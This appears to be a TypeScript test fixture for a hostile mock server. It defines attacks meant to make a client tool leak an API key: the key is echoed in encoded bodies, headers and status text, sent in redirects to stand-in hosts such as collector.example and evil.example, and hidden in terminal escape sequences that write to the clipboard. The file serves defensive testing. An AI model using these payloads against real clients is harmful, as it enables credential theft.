/**
 * Every way the hostile server tries to make a tool print the key it was sent. Each attack is a script
 * for the server; `surface` says where the key is put, for the test's name.
 */
import { changeCase, encode, type Encoding } from './echo-forms.js';
import { TEMPLATES_PAGE, type HostileAnswer, type HostileRequest } from './server.js';

export interface Attack {
  name: string;
  answer: (request: HostileRequest) => HostileAnswer;
}

const body = (secret: string): string => secret.replace(/^sk_/, '');
const json = (value: unknown): string => JSON.stringify(value);

/** A JSON body whose string value is written as given, so escapes reach the client unchanged. */
const jsonWith = (status: number, raw: string): HostileAnswer => ({
  status,
  statusText: status === 200 ? 'OK' : 'Error',
  headers: [['Content-Type', 'application/json']],
  body: `{"error":{"message":"bad key","echo":"${raw}"}}`,
});

const ENCODED_IN_BODY: [string, Encoding, (s: string) => string][] = [
  ['the key as sent', 'plain', (s) => s],
  ['the key without sk_', 'plain', body],
  ['the key case-swapped', 'plain', (s) => changeCase(s, 'swapped')],
  ['the key upper-cased', 'plain', (s) => s.toUpperCase()],
  ['the key JSON \\u-escaped, every character', 'json-u-all', (s) => s],
  ['the key JSON \\u-escaped, letters only', 'json-u-letters', (s) => s],
  ['the key URL-encoded, upper-case hex', 'url-all-upper', (s) => s],
  ['the key URL-encoded, lower-case hex', 'url-all-lower', (s) => s],
  ['the key partly URL-encoded', 'url-some', (s) => s],
  ['the key base64', 'base64', (s) => s],
  ['the key base64 without padding', 'base64-unpadded', (s) => s],
  ['the key URL-safe base64', 'base64url', (s) => `Bearer ${s}`],
  ['the key URL-safe base64 without padding', 'base64url-unpadded', (s) => `x${s}`],
  ['the key base64 with a trailing newline', 'base64-newline', (s) => s],
  ['the key base64 at alignment 1', 'base64', (s) => `a${s}`],
  ['the key base64 at alignment 2', 'base64', (s) => `ab${s}`],
  ['the key body base64', 'base64', body],
];

export const ATTACKS: readonly Attack[] = [
  ...ENCODED_IN_BODY.flatMap(([name, encoding, part]): Attack[] => [
    {
      name: `401 body echoing ${name}`,
      answer: ({ secret }) => jsonWith(401, encode(part(secret), encoding).replace(/\n/g, '\\n')),
    },
    {
      name: `200 body (not the templates envelope) echoing ${name}`,
      answer: ({ secret }) => jsonWith(200, encode(part(secret), encoding).replace(/\n/g, '\\n')),
    },
    {
      name: `text body echoing ${name}`,
      answer: ({ secret }) => ({ status: 500, statusText: 'Oops', body: `error: ${encode(part(secret), encoding)}` }),
    },
  ]),
  {
    name: 'a templates page whose template name is the key',
    answer: ({ secret }) => ({
      status: 200,
      headers: [['Content-Type', 'application/json']],
      body: json({ payload: { thisPageItems: [{ id: 't1', name: secret }], totalNumber: 1, lastPageIndex: 0 } }),
    }),
  },
  {
    name: 'the status text echoing the key',
    answer: ({ secret }) => ({ status: 401, statusText: `Unauthorized ${secret}`, body: '' }),
  },
  {
    name: 'the status text echoing the key body, case-swapped',
    answer: ({ secret }) => ({ status: 403, statusText: changeCase(body(secret), 'swapped'), body: '{}' }),
  },
  {
    name: 'the status text echoing the key base64',
    answer: ({ secret }) => ({ status: 200, statusText: encode(secret, 'base64'), body: TEMPLATES_PAGE }),
  },
  {
    name: 'headers echoing the key',
    answer: ({ secret }) => ({
      status: 429,
      statusText: 'Too Many Requests',
      headers: [
        ['Retry-After', secret],
        ['WWW-Authenticate', `Bearer token="${secret}"`],
        ['X-Echo', encode(secret, 'base64')],
      ],
      body: '{}',
    }),
  },
  {
    name: 'a redirect to a URL with the key in its path and query',
    answer: ({ secret }) => ({
      status: 302,
      statusText: 'Found',
      headers: [['Location', `https://collector.example/${secret}?k=${encode(secret, 'url-all-lower')}`]],
    }),
  },
  {
    name: 'a redirect to a host named after the key',
    answer: ({ secret }) => ({
      status: 307,
      statusText: 'Temporary Redirect',
      headers: [['Location', `https://${body(secret).replace(/_/g, '-').slice(0, 60)}.collector.example/`]],
    }),
  },
  {
    name: 'a redirect with the key in the user info',
    answer: ({ secret }) => ({ status: 301, headers: [['Location', `https://${secret}@collector.example/`]] }),
  },
  {
    name: 'a redirect to an unparsable Location holding the key',
    answer: ({ secret }) => ({ status: 308, headers: [['Location', `http://[${secret}]:x/${secret}`]] }),
  },
  {
    name: 'a redirect to a relative Location holding the key',
    answer: ({ secret }) => ({ status: 303, headers: [['Location', `/steal/${secret}`]] }),
  },
  {
    name: 'a huge JSON-looking body with the key at its start',
    answer: ({ secret }) => ({ status: 200, body: { chunk: `"${secret}",`, bytes: 3 * 1024 * 1024 } }),
  },
  {
    name: 'a huge body with the key just before the size cap',
    answer: ({ secret }) => ({
      status: 200,
      body: { chunk: 'x', bytes: 2 * 1024 * 1024 - secret.length - 2, tail: `${secret} and more after the cap` },
    }),
  },
  {
    name: 'an HTML page echoing the key',
    answer: ({ secret }) => ({
      status: 200,
      headers: [['Content-Type', 'text/html']],
      body: `<html><body><input value="${secret}"><a href="/x?k=${encode(secret, 'url-all-upper')}">x</a></body></html>`,
    }),
  },
  {
    name: 'terminal escapes: OSC 52 clipboard write of the key, OSC 8 link, screen clear',
    answer: ({ secret }) => ({
      status: 500,
      statusText: 'Error \u001b]52;c;Zm9v\u0007',
      body: `\u001b]52;c;${encode(secret, 'base64')}\u0007\u001b]8;;https://evil.example/${secret}\u001b\\click\u001b]8;;\u001b\\\u001b[2J\u001b[H\u009b31m${secret}\u202e`,
    }),
  },
  {
    name: 'the key with zero-width characters between its characters',
    answer: ({ secret }) => ({ status: 401, body: Array.from(secret).join('\u200b') }),
  },
];
